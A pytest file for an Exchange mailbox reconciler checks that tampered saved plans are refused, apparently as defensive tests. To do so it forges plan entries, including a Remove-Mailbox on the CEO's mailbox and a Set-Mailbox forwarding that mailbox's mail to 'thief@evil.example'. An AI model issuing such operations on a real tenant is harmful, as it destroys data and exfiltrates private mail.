"""A saved plan is verified, not trusted: no change twice, every change exactly what a fresh
plan of its address gives, the safety limits worked out again from live counts, and a plan
already carried out is never replayed onto a tenant that moved since."""

from __future__ import annotations

import copy
import json
from pathlib import Path

from reconciler.plan.plan import checksum_of
from tests.apply.conftest import LONDON, Repo
from tests.apply.test_apply import _save_plan

SUPPORT = """\
    shared_mailboxes:
      - name: Support London
        alias: support-london
        permissions:
          - {user: alice@contoso.com, access: [FullAccess]}
    """
SUPPORT_ADDRESS = "contoso/london/shared_mailbox/support-london@contoso.com"


def _rewrite(out: Path, saved: dict) -> None:
    """Edit a saved plan and recompute its checksum, as anyone holding the file can."""
    saved["checksum"] = checksum_of(saved["format_version"], saved["changes"])
    out.write_text(json.dumps(saved))


def _send_as(repo: Repo, identity: str) -> list[str]:
    rows = repo.backend.emulator.invoke("Get-RecipientPermission", {"Identity": identity}).value
    return sorted(str(r["Trustee"]) for r in rows if r["Trustee"] != "NT AUTHORITY\\SELF")


def test_a_change_listed_twice_is_refused_even_with_a_recomputed_checksum(cli, repo: Repo,
                                                                          tmp_path: Path):
    repo.customer_extra = "  policy:\n    protect: [ceo-office@contoso.com]\n"
    repo.yaml(LONDON, SUPPORT)
    out, saved = _save_plan(cli, repo, tmp_path)
    genuine = next(c for c in saved["changes"] if c["address"] == SUPPORT_ADDRESS)
    extra = copy.deepcopy(genuine)
    extra["operations"] = [{"cmdlet": "Remove-Mailbox", "parameters": {
        "Identity": "ceo-office@contoso.com", "Confirm": False}}]
    # The extra copy first: a check comparing only the last copy of an address passes.
    saved["changes"].insert(saved["changes"].index(genuine), extra)
    _rewrite(out, saved)
    run = cli("apply", out, "--path", repo.root)
    assert run.code == 1
    assert f"{SUPPORT_ADDRESS}: listed 2 times in the plan" in run.err
    assert "Make the plan again" in run.err
    assert repo.backend.write_count == 0
    assert repo.backend.emulator.invoke("Get-Mailbox", {"Identity": "ceo-office@contoso.com"})


def test_an_operation_added_to_a_change_is_refused(cli, repo: Repo, tmp_path: Path):
    repo.yaml(LONDON, SUPPORT)
    out, saved = _save_plan(cli, repo, tmp_path)
    change = next(c for c in saved["changes"] if c["address"] == SUPPORT_ADDRESS)
    change["operations"].append({"cmdlet": "Remove-Mailbox", "parameters": {
        "Identity": "ceo-office@contoso.com", "Confirm": False}})
    _rewrite(out, saved)
    run = cli("apply", out, "--path", repo.root)
    assert run.code == 1 and "stale" in run.err and SUPPORT_ADDRESS in run.err
    assert repo.backend.write_count == 0


def test_max_change_percent_is_worked_out_again_from_live_counts(cli, repo: Repo,
                                                                 tmp_path: Path):
    repo.customer_extra = "  policy:\n    max_change_percent: 10\n"
    # Ten existing resources, the least the percentage is checked on.
    repo.live("New-Mailbox", Shared=True, Name="Extra", Alias="extra",
              PrimarySmtpAddress="extra@contoso.com")
    repo.yaml(LONDON, """\
        shared_mailboxes:
          - {name: Support London, alias: support-london, retention_policy: Contoso 2y}
        room_mailboxes:
          - {name: Board Room 3, alias: board-room-3, retention_policy: Contoso 2y}
        """)
    repo.yaml("sites/paris/mailboxes.yaml", """\
        shared_mailboxes:
          - {name: Finance, alias: finance, retention_policy: Contoso 2y}
        """)
    out = tmp_path / "plan.json"
    assert cli("plan", repo.root, "--out", out, "--allow-large-changes").code == 0
    saved = json.loads(out.read_text())
    assert any("max_change_percent" in r["message"] for r in saved["refusals"])
    saved["refusals"] = []  # not covered by the checksum
    out.write_text(json.dumps(saved))
    run = cli("apply", out, "--path", repo.root)
    assert run.code == 1 and "max_change_percent 10" in run.err, run.out + run.err
    assert repo.backend.write_count == 0
    allowed = cli("apply", out, "--path", repo.root, "--allow-large-changes")
    assert allowed.code == 0, allowed.out + allowed.err


def test_replaying_an_applied_plan_when_nothing_moved_does_nothing(cli, repo: Repo,
                                                                   tmp_path: Path):
    repo.yaml(LONDON, SUPPORT)
    out, _ = _save_plan(cli, repo, tmp_path)
    assert cli("apply", out, "--path", repo.root).code == 0
    writes = repo.backend.write_count
    state = repo.root / ".reconciler/state/contoso.json"
    journal = repo.root / ".reconciler/journal/contoso.jsonl"
    recorded, journaled = state.read_bytes(), journal.read_bytes()
    done_at = json.loads(journal.read_text().splitlines()[-1])["time"]

    again = cli("apply", out, "--path", repo.root)
    assert again.code == 0, again.err
    assert (f"was already applied on {done_at}; nothing to do.\n"
            "Apply complete: 0 succeeded, 0 failed, 0 skipped; nothing to do.") in again.out
    assert repo.backend.write_count == writes  # Exchange untouched
    assert state.read_bytes() == recorded and journal.read_bytes() == journaled


def test_replaying_an_applied_plan_after_live_moved_is_refused(cli, repo: Repo,
                                                               tmp_path: Path):
    repo.yaml(LONDON, SUPPORT)
    out, saved = _save_plan(cli, repo, tmp_path)
    assert [op["cmdlet"] for c in saved["changes"] for op in c["operations"]] == [
        "Remove-RecipientPermission"]
    assert cli("apply", out, "--path", repo.root).code == 0
    # Someone grants SendAs again by hand.
    repo.live("Add-RecipientPermission", Identity="support-london@contoso.com",
              Trustee="alice@contoso.com", AccessRights=["SendAs"])
    state = repo.root / ".reconciler/state/contoso.json"
    recorded, writes = state.read_bytes(), repo.backend.write_count

    run = cli("apply", out, "--path", repo.root)
    assert run.code == 1
    assert "stale; it was applied on" in run.err
    assert f"{SUPPORT_ADDRESS}: changed since it was applied (now needs update)" in run.err
    assert repo.backend.write_count == writes and state.read_bytes() == recorded
    # Nothing hides the re-added grant: the next plan proposes removing it again.
    plan = cli("plan", repo.root)
    assert "Remove-RecipientPermission" in plan.out and "pending" not in plan.out
    assert _send_as(repo, "support-london@contoso.com") == ["alice"]


def test_replaying_a_plan_after_a_later_apply_moved_the_mailbox(cli, repo: Repo,
                                                                tmp_path: Path):
    repo.yaml("sites/paris/mailboxes.yaml", """\
        shared_mailboxes:
          - name: Support London
            alias: support-london
        """)
    first, _ = _save_plan(cli, repo, tmp_path)
    assert cli("apply", first, "--path", repo.root).code == 0
    # The mailbox goes back to London, and that is applied too.
    (repo.root / "customers/contoso/sites/paris/mailboxes.yaml").unlink()
    del repo.files["sites/paris/mailboxes.yaml"]
    repo.yaml(LONDON, """\
        shared_mailboxes:
          - name: Support London
            alias: support-london
        """)
    assert cli("apply", repo.root, "--auto-approve").code == 0
    state = repo.root / ".reconciler/state/contoso.json"
    recorded = state.read_bytes()
    assert json.loads(recorded)["locations"]["support-london@contoso.com"] == "contoso/london"

    run = cli("apply", first, "--path", repo.root)
    assert run.code == 0 and "already applied on" in run.out, run.out + run.err
    assert state.read_bytes() == recorded  # the record is not rewritten to the old move
    assert "No changes." in cli("plan", repo.root).out


def test_a_change_for_a_resource_the_repository_does_not_declare_is_refused(cli, repo: Repo,
                                                                           tmp_path: Path):
    """An unmanaged mailbox is only ever reported; a change added to the file that writes to
    it (checksum recomputed) does not match what planning it now gives."""
    repo.yaml(LONDON, SUPPORT)
    out, saved = _save_plan(cli, repo, tmp_path)
    unmanaged = next(c for c in saved["changes"] if c["action"] == "unmanaged"
                     and c["id"] == "ceo-office@contoso.com")
    forged = {**unmanaged, "action": "update", "operations": [{"cmdlet": "Set-Mailbox",
              "parameters": {"Identity": "ceo-office@contoso.com",
                             "ForwardingSmtpAddress": "smtp:thief@evil.example"}}]}
    saved["changes"][saved["changes"].index(unmanaged)] = forged
    _rewrite(out, saved)
    run = cli("apply", out, "--path", repo.root)
    assert run.code == 1 and "stale" in run.err
    assert "ceo-office@contoso.com" in run.err
    assert repo.backend.write_count == 0
